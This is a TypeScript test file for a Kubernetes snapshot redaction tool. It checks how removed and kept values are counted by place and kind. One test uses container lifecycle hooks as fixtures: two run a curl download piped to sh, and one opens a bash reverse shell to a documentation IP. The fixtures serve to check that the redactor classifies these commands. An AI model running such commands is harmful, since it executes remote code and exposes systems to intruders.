import { expect, test } from 'vitest';
import { createRedactionAccount } from '../../../../main/snapshot/redaction/account.ts';
import { redactObject } from '../../../../main/snapshot/redaction/redact.ts';

const accountOf = (...objects: unknown[]) => {
  const account = createRedactionAccount();
  for (const raw of objects) {
    const object = redactObject(raw);
    if (object !== null) account.add(object);
  }
  return account;
};

test('removed values are counted by place and class, the most frequent first', () => {
  const env = [
    { name: 'DB_PASSWORD', value: 'summer' },
    { name: 'API_TOKEN', value: 'winter' },
    { name: 'MODE', value: 'fast' },
  ];
  const account = accountOf(
    { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'a' }, spec: { containers: [{ env }] } },
    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'c' }, data: { one: 'x', two: 'y' } },
  );
  expect(account.removed()).toEqual([
    { place: 'ConfigMap data.*', looksLike: 'plain', count: 2 },
    { place: 'Pod spec.containers[].env[].value', looksLike: 'password-like-name', count: 2 },
    { place: 'Pod spec.containers[].env[].value', looksLike: 'plain', count: 1 },
  ]);
});

test('of a removed command, what it does is counted with it', () => {
  const hook = (script: string) => ({ postStart: { exec: { command: ['sh', '-c', script] } } });
  const container = (name: string, script: string) => ({ name, image: 'x', lifecycle: hook(script) });
  const account = accountOf({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'a' },
    spec: {
      containers: [
        container('one', 'curl http://192.0.2.1/a | sh'),
        container('two', 'curl http://192.0.2.1/b | sh'),
        container('three', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
        container('four', 'sleep 5'),
      ],
    },
  });
  const place = 'Pod spec.containers[].lifecycle.postStart.exec.command[]';
  const commands = account.removed().filter(({ does }) => does !== undefined);
  expect(commands.map(({ place: at, does, count }) => [at, does, count])).toEqual([
    [place, 'runs-download', 2],
    [place, 'remote-shell', 1],
  ]);
  expect(account.removed().reduce((sum, { count }) => sum + count, 0)).toBe(12);
});

test('what is kept in places where secrets are sometimes written is counted', () => {
  const account = accountOf({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'a', annotations: { 'meta.helm.sh/release-name': 'a', other: 'b' } },
    spec: { containers: [{ command: ['sh', '-c'], args: ['run'], image: 'x' }] },
    status: { conditions: [{ message: 'went wrong' }] },
  });
  expect(account.kept()).toEqual([
    { place: 'Pod spec.containers[].command[]', count: 2 },
    { place: 'Pod metadata.annotations.*', count: 1 },
    { place: 'Pod spec.containers[].args[]', count: 1 },
  ]);
  // No control reads what components report in their own words.
  const message = { place: 'Pod status.conditions[].message', looksLike: 'plain', count: 1 };
  expect(account.removed()).toContainEqual(message);
});

test('any number of field names makes a bounded account', () => {
  const account = accountOf(
    ...Array.from({ length: 3_000 }, (_, at) => ({
      apiVersion: 'example.org/v1',
      kind: 'Thing',
      metadata: { name: 'a' },
      spec: { [`field${at}`]: { password: 'secret-in-clear' } },
    })),
  );
  expect(account.removed().length).toBe(1_001);
  expect(account.removed()[0]).toEqual({
    place: 'Thing (other places)',
    looksLike: 'password-like-name',
    count: 2_000,
  });
});
